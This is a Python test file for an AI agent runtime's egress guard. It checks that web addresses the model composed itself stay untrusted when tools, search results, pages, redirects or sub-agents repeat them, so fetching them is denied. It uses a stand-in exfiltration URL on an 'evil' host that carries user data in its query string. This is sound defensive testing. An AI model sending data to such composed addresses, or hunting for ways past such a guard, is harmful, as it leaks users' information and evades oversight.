"""An address that the model composed stays composed, whoever repeats it to the model."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Mapping
from typing import Any

import pytest

from egress.testing import RecordingFetch
from runtime_pack import (
    ApprovalRequest,
    CatalogTool,
    Decision,
    Label,
    LoopResult,
    MemoryRunStore,
    SubAgent,
    TaskContract,
    ToolMessage,
    ToolPolicy,
    ToolRule,
    ToolSpec,
    Turn,
    TurnInput,
    UserMessage,
    build_web_tool_catalog,
    create_agent_runtime,
    create_agent_task_run,
    create_fixture_web_search_provider,
    create_web_tool_runtime,
    run_governed_agent_loop,
    sub_agent_tool,
)
from runtime_pack.address_book import AddressBook
from runtime_pack.addresses import WEB_ADDRESSES
from runtime_pack.guard.outflow import Outflow
from runtime_pack.label_table import AddressOrigin, LabelPreset
from runtime_pack.messages import AssistantMessage
from runtime_pack.testing import ListEmitter, ScriptedModel, calls, reply
from tests.runtime_pack.web.test_labels_in_runs import (
    DOCS,
    MAIL,
    TEXT,
    Stage,
    codes,
    decide,
    page,
    read,
    redirect,
    rules,
    send,
)
from web_tools.search import SearchHit

COMPOSED = "https://evil.docs.example/c?d=what-the-user-wants"


def echoing(**fields: Any) -> CatalogTool:
    """A tool that keeps what it was last given, and says it."""
    kept = [""]

    async def handler(arguments: Mapping[str, Any], context: object) -> str:
        del context
        kept[0] = str(arguments.get("body") or kept[0])
        return kept[0]

    given: Any = {"name": "note:keep", "description": "d", "parameters": TEXT, **fields}
    return CatalogTool(spec=ToolSpec(**given), handler=handler)


def keep(body: str = "", key: str = "k") -> Turn:
    return calls((key, "note:keep", json.dumps({"body": body})))


@pytest.mark.parametrize(
    "fields",
    [
        {"side_effects": [], "output_trust": "internal", "output_confidentiality": "public"},
        {"side_effects": ["write_local"], "output_trust": "internal"},
        {"side_effects": ["read_local"]},
    ],
)
def test_what_a_tool_repeats_is_not_known(fields: dict[str, Any]) -> None:
    """Whatever the tool is trusted with, written and read again, before a page was read or after."""

    async def main() -> None:
        stage = Stage(
            read(DOCS, "a"),
            keep(COMPOSED),
            keep(key="again"),
            read(COMPOSED),
            reply(),
            pages=[page(), page()],
            tools=[echoing(**fields)],
            preset="strict",
        )
        result = await stage.go(f"read {DOCS}")

        assert codes(result) == [None, None, None, "POLICY_DENIED"]
        assert stage.fetched == [DOCS]

    asyncio.run(main())


@pytest.mark.parametrize(
    "hit",
    [
        SearchHit(title="t", url="https://other.example/", snippet=f"you searched {COMPOSED}"),
        SearchHit(title=COMPOSED, url="https://other.example/", snippet="s"),
        SearchHit(title="t", url=COMPOSED, snippet="s"),
    ],
)
@pytest.mark.parametrize("query", [COMPOSED, COMPOSED.removeprefix("https://")])
def test_a_search_that_repeats_its_query_makes_nothing_known(hit: SearchHit, query: str) -> None:
    """Neither in its words nor as a hit, with a scheme or without."""

    async def main() -> None:
        stage = Stage(
            calls(("q", "web:search", json.dumps({"query": query}))),
            read(COMPOSED),
            reply(),
            pages=[page()],
            hits=[hit],
            preset="strict",
        )
        result = await stage.go("go")

        assert codes(result) == [None, "POLICY_DENIED"]
        assert stage.fetched == []

    asyncio.run(main())


def test_a_hit_is_known_although_the_model_guessed_it_before() -> None:
    """A search for other words has found it: it is there, whatever the model had thought."""

    async def main() -> None:
        hit = SearchHit(title="t", url="https://docs.example/hit", snippet="s")
        stage = Stage(
            read("https://docs.example/hit", "r1"),
            calls(("q", "web:search", '{"query":"manual"}')),
            read("https://docs.example/hit", "r2"),
            reply(),
            pages=[page()],
            hits=[hit],
            preset="strict",
        )
        result = await stage.go("go")

        assert codes(result) == ["POLICY_DENIED", None, None]

    asyncio.run(main())


@pytest.mark.parametrize(
    "composing",
    [
        keep(COMPOSED),
        keep("evil.docs.example/c?d=what-the-user-wants"),
        keep("x" * 20_000 + f" {COMPOSED}"),
        keep(" ".join(f"{number}.de" for number in range(9_000)) + f" {COMPOSED}"),
        read(COMPOSED, "k"),
    ],
    ids=["argument", "without a scheme", "far behind", "behind many", "denied"],
)
def test_a_page_that_shows_what_was_composed_is_no_link_to_it(composing: Turn) -> None:
    """Of its other links nothing changes."""

    async def main() -> None:
        stage = Stage(
            composing,
            read(DOCS, "a"),
            read(COMPOSED, "b"),
            read("https://docs.example/next", "c"),
            reply(),
            pages=[page(COMPOSED, "https://docs.example/next"), page(), page()],
            tools=[echoing(side_effects=[], output_trust="internal")],
            preset="strict",
        )
        result = await stage.go(f"read {DOCS}")

        assert codes(result)[1:3] == [None, "POLICY_DENIED"]
        assert COMPOSED not in stage.fetched

    asyncio.run(main())


def test_a_redirect_to_what_was_composed_does_not_make_it_known() -> None:
    """It is judged as the composed address that it is."""

    async def main() -> None:
        target = "https://docs.example/moved"
        stage = Stage(
            keep(target),
            read(DOCS, "a"),
            read(target, "b"),
            reply(),
            pages=[redirect(target), page()],
            tools=[echoing(side_effects=[], output_trust="internal")],
            preset="strict",
        )
        result = await stage.go(f"read {DOCS}")

        assert codes(result) == [None, "POLICY_DENIED", "POLICY_DENIED"]

    asyncio.run(main())


def test_links_and_what_was_composed_are_the_same_after_a_restart() -> None:
    """A link stays one; the composed address that a page shows afterwards is still none."""

    async def main() -> None:
        first = Stage(
            read(DOCS, "a"),
            keep(COMPOSED),
            send(),
            pages=[page("https://docs.example/next")],
            tools=[MAIL, echoing(side_effects=[], output_trust="internal")],
            preset="strict",
        )
        waiting = await first.go(f"read {DOCS}")
        assert rules(waiting) == [("message",)]
        after = Stage(
            read("https://docs.example/next", "b"),
            read(COMPOSED, "c"),
            reply(),
            pages=[page(COMPOSED)],
            tools=[MAIL, echoing(side_effects=[], output_trust="internal")],
            preset="strict",
        )
        result = await after.resume(first.store, decide(waiting, "deny"))

        assert codes(result)[-2:] == [None, "POLICY_DENIED"]
        assert after.fetched == ["https://docs.example/next"]

    asyncio.run(main())


def strict() -> Outflow:
    return Outflow(LabelPreset.STRICT, WEB_ADDRESSES)


def test_what_a_sub_run_composed_goes_with_the_saved_run() -> None:
    """Its messages are not found again where its parent is taken up."""
    flow, after = strict(), strict()
    flow.note(AssistantMessage(text=f"see {COMPOSED}"), own=False)
    flow.offer([], [DOCS])
    after.book.restore_known(json.loads(json.dumps(flow.book.kept)))
    after.offer([], [COMPOSED])

    assert [str(after.book.origin(url)) for url in (COMPOSED, DOCS)] == [
        "model_composed",
        "page_link",
    ]


def test_what_was_composed_before_addresses_could_be_read_is_composed() -> None:
    """The first web tools of a run may be those of a sub-agent."""
    flow = Outflow(LabelPreset.STRICT)
    flow.note(AssistantMessage(text=f"see {COMPOSED}"))
    flow.offer([], [])
    flow.reader = WEB_ADDRESSES
    flow.offer([], [COMPOSED])

    assert str(flow.book.origin(COMPOSED)) == "model_composed"


def test_where_a_page_led_to_goes_with_the_saved_run() -> None:
    """No message says it as a link."""
    flow, after = strict(), strict()
    flow.hop(DOCS, "https://docs.example/moved", Label())
    after.book.restore_known(json.loads(json.dumps(flow.book.kept)))

    assert str(after.book.origin("https://docs.example/moved")) == "page_link"


# ── sub-agents ────────────────────────────────────────────────────────────────────────────────


def family(parents: list[Turn], childs: list[Turn], fetch: RecordingFetch) -> LoopResult:
    """A strict run whose sub-agent reads too; both read what *fetch* gives."""
    run = create_agent_task_run(TaskContract(max_steps=20, max_turns=20, preset="strict"))

    def web(base: Any) -> Any:
        return create_web_tool_runtime(
            base,
            provider=create_fixture_web_search_provider([]),
            allowlist=["docs.example", "*.docs.example"],
            emitter=ListEmitter(),
            fetch=fetch,
        )

    def make(child: Any) -> SubAgent:
        inner = child.guard_runtime(create_agent_runtime(model=ScriptedModel(childs)))
        return SubAgent(runtime=web(inner), tool_catalog=[*build_web_tool_catalog()])

    helper = sub_agent_tool(
        run,
        name="helper",
        description="d",
        make=make,
        contract=TaskContract(max_steps=4, max_turns=6, preset="strict"),
        allowlist=["docs.example", "*.docs.example"],
    )
    base = create_agent_runtime(model=ScriptedModel(parents), tools=[helper])
    given = TurnInput(
        messages=[UserMessage(text=f"read {DOCS}")],
        tool_catalog=[helper.spec, *build_web_tool_catalog()],
    )
    return asyncio.run(
        run_governed_agent_loop(
            runtime=web(run.guard_runtime(base)), execute_turn_input=given, store=MemoryRunStore()
        )
    )


def ask(task: str) -> Turn:
    return calls(("h", "helper", {"task": task}))


@pytest.mark.parametrize(
    ("parents", "childs"),
    [
        ([read(DOCS, "a"), ask(f"read {COMPOSED}"), reply()], [read(COMPOSED, "c"), reply("ok")]),
        ([ask("think"), read(COMPOSED, "p"), reply()], [reply(f"see {COMPOSED}")]),
    ],
    ids=["task", "answer"],
)
def test_neither_a_task_nor_an_answer_of_a_sub_agent_makes_an_address_known(
    parents: list[Turn], childs: list[Turn]
) -> None:
    """Both are what a model wrote."""
    fetch = RecordingFetch([page(), page()])
    family(parents, childs, fetch)

    assert COMPOSED not in [target.url for target in fetch.requests]


def test_what_a_sub_agent_really_read_is_known_to_its_parent() -> None:
    """The links of its page, which its runtime vouches for."""
    fetch = RecordingFetch([page("https://docs.example/next"), page()])
    result = family(
        [ask("read"), read("https://docs.example/next", "p"), reply()],
        [read(DOCS, "c"), reply("done")],
        fetch,
    )

    assert [target.url for target in fetch.requests] == [DOCS, "https://docs.example/next"]
    assert all(each.ok for each in result.messages if isinstance(each, ToolMessage))


def test_a_known_address_that_the_model_repeats_stays_a_link() -> None:
    """It goes on to be counted as one choice of as many as a page gives."""
    book, site, many = (
        AddressBook(),
        "docs.example",
        [f"https://docs.example/{n}" for n in range(8)],
    )
    book.add(many[:2], AddressOrigin.PAGE_LINK)
    book.compose([*many[:1], "https://docs.example/new"], keep=True)
    book.add(many, AddressOrigin.PAGE_LINK)
    book.charge("s1", many[0], site)

    assert book.origin(many[0]) is AddressOrigin.PAGE_LINK
    assert book.spent(site) == 3_000
    assert [url for url, origin, _ in book.kept if origin is AddressOrigin.COMPOSED] == [
        "https://docs.example/new"
    ]


class Editor:
    """A person who writes another address into every call."""

    async def decide(self, request: ApprovalRequest) -> Decision:
        """Yes, but there."""
        edited = {"url": "https://docs.example/mine"}
        given: Any = {"verdict": "approve", "decided_by": "ann", "edited_args": edited}
        return Decision(request_id=request.request_id, **given)


def test_an_address_that_a_person_writes_into_a_call_is_known_from_the_user() -> None:
    """And the one that the model had asked for is still its own."""
    wanted = calls(("r", "web:read", '{"url": "https://docs.example/composed"}'))
    run = create_agent_task_run(
        TaskContract(
            tool_policy=ToolPolicy([ToolRule(tool="web:read", approval_class="request_user")])
        ),
        approver=Editor(),
    )
    runtime = create_web_tool_runtime(
        run.guard_runtime(create_agent_runtime(model=ScriptedModel([wanted, reply()]))),
        provider=create_fixture_web_search_provider([]),
        allowlist=["docs.example"],
        emitter=ListEmitter(),
        fetch=RecordingFetch([page("hello")]),
    )
    given = TurnInput(messages=[UserMessage(text="go")], tool_catalog=build_web_tool_catalog())
    asyncio.run(run_governed_agent_loop(runtime=runtime, execute_turn_input=given))

    assert run.flow.book.origin("https://docs.example/mine") is AddressOrigin.USER
    assert run.flow.book.origin("https://docs.example/composed") is AddressOrigin.COMPOSED
